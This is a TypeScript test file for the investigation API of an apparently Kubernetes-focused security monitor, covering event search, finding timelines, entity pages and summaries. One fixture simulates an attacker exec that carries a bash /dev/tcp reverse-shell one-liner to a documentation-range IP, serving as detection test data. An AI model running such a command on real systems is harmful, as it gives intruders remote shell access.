// The investigation API over real HTTP and a real SQLite file: events ingested through the webhooks
// are archived and found again by entity, in timelines, on entity pages and in the summary.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { DEFAULT_CONFIG } from '../../app/config.js';
import { openVigil, type Vigil } from '../../app/open.js';
import { ensureAdminToken, issueToken } from '../../app/tokens.js';
import { systemClock } from '../../core/clock.js';
import type { Finding } from '../../core/finding.js';
import { auditEvent, eventList, execEvent, privilegedPodEvent } from '../../testing/audit-events.js';
import { dns } from '../../testing/tracee-events.js';
import { buildServer } from '../server.js';

const ALICE = 'arn:aws:sts::111122223333:assumed-role/eks-admin/alice';
const HOUR = 3_600_000;

type Json = Record<string, any>;

describe('investigation API', () => {
  let dir: string;
  let vigil: Vigil;
  let app: FastifyInstance;
  let base: string;
  let admin: string;
  let viewer: string;
  let ingest: string;
  let exec: Json;
  let older: Json;
  let execFinding: Finding;

  const get = async (path: string, token: string | null = viewer): Promise<{ status: number; type: string; body: Json }> => {
    const r = await fetch(`${base}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    return { status: r.status, type: r.headers.get('content-type') ?? '', body: (await r.json()) as Json };
  };
  const ok = async (path: string): Promise<Json> => {
    const r = await get(path);
    assert.equal(r.status, 200, `${path}: ${JSON.stringify(r.body)}`);
    return r.body;
  };
  const refused = async (path: string, status: number, detail: RegExp) => {
    const r = await get(path);
    assert.equal(r.status, status, path);
    assert.match(r.type, /^application\/problem\+json/, path);
    assert.match(String(r.body.detail), detail, path);
  };

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vigil-investigation-'));
    vigil = await openVigil({ ...DEFAULT_CONFIG, archive: { ...DEFAULT_CONFIG.archive, runtime: true } }, dir, systemClock);
    await vigil.store.addCluster({ name: 'prod', detectorId: 'a'.repeat(32), createdAt: Date.now(), platform: 'eks', arn: null });
    admin = (await ensureAdminToken(vigil.store, dir, Date.now())).secret;
    viewer = (await issueToken(vigil.store, 'api', { role: 'viewer', description: 'console', now: Date.now() })).secret;
    ingest = (await issueToken(vigil.store, 'ingest', { cluster: 'prod', now: Date.now() })).secret;
    app = await buildServer({ store: vigil.store, pipeline: vigil.pipeline, maxBodyBytes: 1024 * 1024 });
    await app.listen({ host: '127.0.0.1', port: 0 });
    const addr = app.server.address();
    assert.ok(addr && typeof addr === 'object');
    base = `http://127.0.0.1:${addr.port}`;

    exec = execEvent('kube-system', 'coredns-1');
    const at = (e: Json, ms: number) => ({ ...e, stageTimestamp: new Date(ms).toISOString(), requestReceivedTimestamp: new Date(ms).toISOString() });
    const t = Date.parse(exec.stageTimestamp as string);
    older = at(auditEvent({ verb: 'get', user: { username: ALICE }, sourceIPs: ['203.0.113.25'], requestURI: '/api/v1/namespaces/kube-system/secrets/x', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' } }), t - 3 * HOUR);
    const audit = [
      older,
      at(auditEvent({ verb: 'list', user: { username: ALICE }, sourceIPs: ['203.0.113.25'], userAgent: 'kubectl/v1.29.4' }), t - 10 * 60_000),
      exec,
      at(privilegedPodEvent('priv', 'registry.example/tools:1.0'), t + 5 * 60_000),
      at(auditEvent({ verb: 'get', user: { username: 'bob' }, sourceIPs: ['198.51.100.8'], objectRef: { resource: 'pods', namespace: 'kube-system', name: 'coredns-1' } }), t + 60_000),
      at(auditEvent({ verb: 'create', user: { username: 'system:serviceaccount:shop:deployer' }, objectRef: { resource: 'configmaps', namespace: 'shop', name: 'cfg' } }), t),
    ];
    const reverseShell = execEvent('shop', 'web-1');
    reverseShell.requestURI = `/api/v1/namespaces/shop/pods/web-1/exec?command=bash&command=-c&command=${encodeURIComponent('bash -i >& /dev/tcp/192.0.2.66/4444 0>&1')}&container=web`;
    reverseShell.user = { username: 'mallory', groups: ['system:masters'] };
    reverseShell.sourceIPs = ['192.0.2.66'];
    audit.push(reverseShell);
    const post = (path: string, body: string) => fetch(`${base}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${ingest}` }, body });
    assert.equal((await post('/ingest/k8s-audit', JSON.stringify(eventList(audit)))).status, 200);
    assert.equal((await post('/ingest/runtime/tracee?node=node-1', [dns('example.com'), dns('example.org')].map((e) => JSON.stringify(e)).join('\n'))).status, 200);
    const findings = (await vigil.store.listFindings({ types: ['Execution:Kubernetes/ExecInKubeSystemPod'] })).findings;
    assert.equal(findings.length, 1);
    execFinding = findings[0]!;
  });

  after(async () => {
    await app.close();
    await vigil.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('the new routes need an API token', async () => {
    for (const path of ['/api/v1/whoami', '/api/v1/events', `/api/v1/findings/${execFinding.id}/timeline`, '/api/v1/entities/user/bob', '/api/v1/summary']) {
      assert.equal((await get(path, null)).status, 401, path);
      assert.equal((await get(path, ingest)).status, 403, path);
    }
  });

  test('whoami says which token is calling and its role', async () => {
    const v = await ok('/api/v1/whoami');
    assert.deepEqual({ ...v, tokenId: typeof v.tokenId }, { tokenId: 'string', role: 'viewer', kind: 'api', description: 'console' });
    assert.equal((await get('/api/v1/whoami', admin)).body.role, 'admin');
  });

  test('events: every accepted event, newest first, with its entity columns and raw JSON', async () => {
    const all = await ok('/api/v1/events?maxResults=1000');
    assert.equal(all.nextToken, null);
    assert.equal(all.events.length, 9);
    const times = all.events.map((e: Json) => e.time as string);
    assert.deepEqual(times, [...times].sort().reverse());
    const e = all.events.find((x: Json) => x.raw.auditID === exec.auditID);
    assert.deepEqual(e.raw, exec);
    assert.deepEqual({ ...e, id: typeof e.id, raw: null }, {
      id: 'string', cluster: 'prod', time: new Date(Date.parse(exec.stageTimestamp as string)).toISOString(), plane: 'audit', actor: ALICE,
      namespace: 'kube-system', workload: 'pods/kube-system/coredns-1', pod: 'kube-system/coredns-1', image: null, node: null,
      sourceIp: '203.0.113.25', summary: 'create pods/exec kube-system/coredns-1 101', raw: null, truncated: false,
    });
  });

  test('events: filters, time range, order and keyset pages', async () => {
    const summaries = async (q: string) => (await ok(`/api/v1/events?${q}`)).events.map((e: Json) => e.summary as string);
    assert.equal((await summaries(`actor=${encodeURIComponent(ALICE)}`)).length, 4);
    assert.deepEqual(await summaries('pod=kube-system%2Fcoredns-1&order=asc'), ['create pods/exec kube-system/coredns-1 101', 'get pods kube-system/coredns-1 200']);
    assert.deepEqual(await summaries('sourceIp=198.51.100.8'), ['get pods kube-system/coredns-1 200']);
    assert.deepEqual(await summaries('image=registry.example%2Ftools%3A1.0'), ['create pods default/priv 201']);
    assert.deepEqual(await summaries('node=node-1&order=asc'), ['dns_request example.com A', 'dns_request example.org A']);
    assert.deepEqual(await summaries('cluster=staging'), []);
    const t = Date.parse(exec.stageTimestamp as string);
    assert.deepEqual(await summaries(`actor=${encodeURIComponent(ALICE)}&from=${new Date(t - 4 * HOUR).toISOString()}&to=${new Date(t - HOUR).toISOString()}`), ['get secrets kube-system/x 200']);

    const seen: string[] = [];
    let token: string | null = null;
    let pages = 0;
    do {
      const page: Json = await ok(`/api/v1/events?maxResults=3&order=asc${token ? `&nextToken=${encodeURIComponent(token)}` : ''}`);
      seen.push(...page.events.map((e: Json) => e.id as string));
      token = page.nextToken as string | null;
      pages++;
    } while (token && pages < 10);
    assert.equal(pages, 3);
    assert.equal(new Set(seen).size, 9);
  });

  test('events: malformed parameters are 400 problem+json naming the parameter', async () => {
    await refused('/api/v1/events?from=yesterday', 400, /from must be an ISO 8601 time/);
    await refused('/api/v1/events?to=2024-02-30', 400, /to must be an ISO 8601 time/);
    await refused('/api/v1/events?from=2024-03-02&to=2024-03-01', 400, /from must not be after to/);
    await refused('/api/v1/events?maxResults=0', 400, /maxResults must be an integer from 1 to 1000/);
    await refused('/api/v1/events?maxResults=1001', 400, /maxResults/);
    await refused('/api/v1/events?maxResults=ten', 400, /maxResults/);
    await refused('/api/v1/events?order=sideways', 400, /order must be asc or desc/);
    await refused('/api/v1/events?actor=a&actor=b', 400, /actor must be given once/);
    await refused('/api/v1/events?user=bob', 400, /unknown query parameter "user"/);
    await refused('/api/v1/events?nextToken=garbage', 400, /invalid nextToken/);
  });

  test('timeline: the finding, its entities, and related findings and events in the window, by time', async () => {
    const tl = await ok(`/api/v1/findings/${execFinding.id}/timeline`);
    assert.deepEqual(tl.finding, execFinding);
    assert.deepEqual(tl.entities, { actor: ALICE, workload: 'pods/kube-system/coredns-1', pod: 'kube-system/coredns-1', sourceIps: ['203.0.113.25'] });
    assert.equal(tl.truncated, false);
    const times = tl.entries.map((e: Json) => e.time as string);
    assert.deepEqual(times, [...times].sort());
    const self = tl.entries.find((e: Json) => e.relation === 'self');
    assert.equal(self.kind, 'finding');
    assert.deepEqual(Object.keys(self.finding).sort(), ['archived', 'cluster', 'count', 'firstSeen', 'id', 'label', 'lastSeen', 'namespace', 'severity', 'title', 'type', 'updatedAt', 'user', 'workload']);
    const events = tl.entries.filter((e: Json) => e.kind === 'event');
    const by = (s: string) => events.find((e: Json) => e.event.summary === s);
    assert.deepEqual(by('create pods/exec kube-system/coredns-1 101').relations.sort(), ['actor', 'sourceIp', 'workload']);
    assert.equal(by('get pods kube-system/coredns-1 200').relation, 'workload', "another user's call on the same pod");
    assert.equal(by('list pods default 200').relation, 'actor');
    assert.equal(by('get secrets kube-system/x 200'), undefined, '3 hours before: outside a 60-minute window');
    assert.equal(events.some((e: Json) => e.event.plane === 'runtime'), false);
    const related = tl.entries.filter((e: Json) => e.kind === 'finding' && e.relation !== 'self');
    assert.ok(related.length >= 1, 'the privileged pod findings of the same actor');
    for (const r of related) assert.ok(r.relations.includes('actor'));

    const wide = await ok(`/api/v1/findings/${execFinding.id}/timeline?windowMinutes=240`);
    assert.ok(wide.entries.some((e: Json) => e.event?.summary === 'get secrets kube-system/x 200'));
  });

  test('timeline: unknown finding 404, malformed id or window 400', async () => {
    await refused(`/api/v1/findings/${'0'.repeat(32)}/timeline`, 404, /no finding/);
    await refused('/api/v1/findings/XYZ/timeline', 400, /32 lower-case hex/);
    await refused(`/api/v1/findings/${execFinding.id}/timeline?windowMinutes=0`, 400, /windowMinutes must be an integer/);
    await refused(`/api/v1/findings/${execFinding.id}/timeline?window=5`, 400, /unknown query parameter/);
  });

  test('entity pages: a user with findings, events, source IPs and user agents', async () => {
    const p = await ok(`/api/v1/entities/user/${encodeURIComponent(ALICE)}`);
    assert.equal(p.kind, 'user');
    assert.equal(p.id, ALICE);
    assert.ok(p.findings.length >= 2);
    assert.ok(p.findings.every((f: Json) => f.user === ALICE));
    assert.equal(p.findingCounts.total, p.findings.length);
    assert.equal(p.findingCounts.byType['Execution:Kubernetes/ExecInKubeSystemPod'], 1);
    assert.equal(p.events.length, 4);
    assert.equal(p.firstSeen, new Date(Date.parse(older.stageTimestamp as string)).toISOString());
    assert.deepEqual(p.related.sourceIps.map((r: Json) => [r.value, r.events]), [['203.0.113.25', 4]]);
    assert.ok(p.related.userAgents.some((r: Json) => r.value === 'kubectl/v1.29.4'));
  });

  test('entity pages: service account in either form, pod with or without %2F, image, node, ip', async () => {
    const sa1 = await ok('/api/v1/entities/serviceaccount/shop%2Fdeployer');
    const sa2 = await ok(`/api/v1/entities/serviceaccount/${encodeURIComponent('system:serviceaccount:shop:deployer')}`);
    assert.deepEqual(sa1.events, sa2.events);
    assert.deepEqual(sa1.events.map((e: Json) => e.summary), ['create configmaps shop/cfg 200']);
    const pod = await ok('/api/v1/entities/pod/kube-system%2Fcoredns-1');
    assert.deepEqual(pod, await ok('/api/v1/entities/pod/kube-system/coredns-1'));
    assert.deepEqual(pod.related.actors.map((r: Json) => r.value).sort(), [ALICE, 'bob']);
    assert.deepEqual(pod.findings.map((f: Json) => f.id), [execFinding.id]);
    const image = await ok('/api/v1/entities/image/ubuntu');
    assert.deepEqual(image.related.pods.map((r: Json) => [r.value, r.events]), [['other/crypto', 2]]);
    assert.deepEqual(image.related.nodes.map((r: Json) => r.value), ['node-1']);
    const node = await ok('/api/v1/entities/node/node-1');
    assert.equal(node.events.length, 2);
    const ip = await ok('/api/v1/entities/ip/198.51.100.8');
    assert.deepEqual(ip.related.actors.map((r: Json) => r.value), ['bob']);
    const nobody = await ok('/api/v1/entities/user/nobody');
    assert.deepEqual({ ...nobody, related: null }, {
      kind: 'user', id: 'nobody', firstSeen: null, lastSeen: null, findings: [], events: [], related: null,
      findingCounts: { total: 0, bySeverity: { low: 0, medium: 0, high: 0, critical: 0 }, byType: {} },
    });
  });

  test('entity pages: unknown kinds and malformed ids are 400', async () => {
    await refused('/api/v1/entities/cluster/prod', 400, /unknown entity kind "cluster"/);
    await refused('/api/v1/entities/ip/not-an-ip', 400, /IPv4 or IPv6/);
    await refused('/api/v1/entities/pod/just-a-name', 400, /NAMESPACE\/NAME/);
    await refused('/api/v1/entities/serviceaccount/a%3Ab%3Ac', 400, /service account id/);
    await refused('/api/v1/entities/user/bob?x=1', 400, /unknown query parameter/);
  });

  test('summary: a zero-filled daily series by severity, top values and the newest high findings', async () => {
    const s = await ok('/api/v1/summary?days=3');
    assert.equal(s.days, 3);
    assert.equal(s.series.length, 3);
    assert.equal(s.series[2].day, new Date().toISOString().slice(0, 10));
    const total = (await vigil.store.listFindings({ archived: false, limit: 1000 })).findings;
    const counted = s.series.reduce((n: number, d: Json) => n + d.low + d.medium + d.high + d.critical, 0);
    assert.equal(counted, total.length);
    assert.equal(s.series[2].high, total.filter((f) => f.severity >= 7 && f.severity < 9).length);
    assert.ok(s.topTypes.some((t: Json) => t.key === 'Execution:Kubernetes/ExecInKubeSystemPod' && t.count === 1));
    assert.deepEqual(s.topClusters, [{ key: 'prod', count: total.length }]);
    assert.ok(s.topActors.some((a: Json) => a.key === ALICE));
    assert.ok(s.newestHigh.length >= 1);
    assert.ok(s.newestHigh.every((f: Json) => f.severity >= 7));
    assert.deepEqual((await ok('/api/v1/summary?cluster=staging')).topTypes, []);
    assert.equal((await ok('/api/v1/summary')).series.length, 14);
    await refused('/api/v1/summary?days=0', 400, /days must be an integer from 1 to 90/);
    await refused('/api/v1/summary?days=91', 400, /days/);
  });
});
